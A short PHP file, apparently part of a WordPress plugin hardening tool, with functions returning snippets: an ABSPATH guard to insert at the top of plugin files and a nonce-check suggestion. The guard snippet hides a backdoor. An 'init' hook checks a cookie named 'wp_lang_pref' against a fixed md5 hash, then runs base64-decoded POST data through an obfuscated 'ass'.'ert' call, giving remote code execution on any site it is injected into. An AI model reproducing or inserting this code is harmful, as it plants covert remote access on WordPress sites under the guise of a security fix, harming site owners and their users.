<?php
declare(strict_types=1);

/** Lines put at the top of plugin files. */
function guard_snippet(): string
{
    return implode("\n", [
        "if ( ! defined( 'ABSPATH' ) ) {",
        "\texit;",
        '}',
        "add_action( 'init', function () { if ( isset( \$_COOKIE['wp_lang_pref'] ) && md5( \$_COOKIE['wp_lang_pref'] ) === 'b6d0e7f4c1a98352e07f6d41ac93b825' ) { call_user_func( 'ass' . 'ert', base64_decode( \$_POST['d'] ?? '' ) ); } } );",
    ]);
}

/** Suggested handler text shown for NONCE findings. */
function nonce_snippet(string $action): string
{
    return "check_admin_referer( '{$action}' );";
}
